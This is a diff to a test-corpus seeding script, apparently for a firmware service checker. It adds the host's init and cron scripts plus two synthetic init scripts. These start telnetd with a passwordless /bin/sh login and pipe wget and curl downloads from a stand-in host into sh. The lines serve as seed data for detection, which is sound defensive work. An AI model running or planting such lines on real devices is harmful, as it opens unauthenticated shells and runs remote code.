@@ -365,4 +365,15 @@ for order in 1234 4321; do
 done
 seed rpm_ndb "$tmp/Packages.db" two
 
+# Shell scripts as firmware starts them: this machine's init scripts and cron jobs, and the
+# forms the services check follows (functions, variables, sourcing, procd, pipes into sh).
+n=0
+for f in /etc/init.d/* /etc/cron.daily/* /etc/cron.hourly/*; do
+  [ -f "$f" ] && [ "$n" -lt 40 ] && seed shell "$f" "host-$((n++))"
+done
+printf '#!/bin/sh /etc/rc.common\nUSE_PROCD=1\nPROG=/usr/sbin/telnetd\nstart_service() {\n\tprocd_open_instance\n\tprocd_set_param command "$PROG" -F\n\tprocd_append_param command -l /bin/sh\n\tprocd_close_instance\n}\n' > "$tmp/procd"
+seed shell "$tmp/procd" procd
+printf '#!/bin/sh\n. /lib/functions.sh\nD=/usr/sbin/utelnetd\nstart() { ( $D -p ${PORT:-23} -l /bin/sh & ); }\ncase "$1" in start) start ;; esac\ncd /tmp && wget -qO- http://h/x | sh\nsh -c "$(curl -s http://h/y)"\ncat <<EOF > /tmp/a\nx\nEOF\n' > "$tmp/sysv"
+seed shell "$tmp/sysv" sysv
+
 du -sh "$C"/* | sed 's/^/seeds: /'
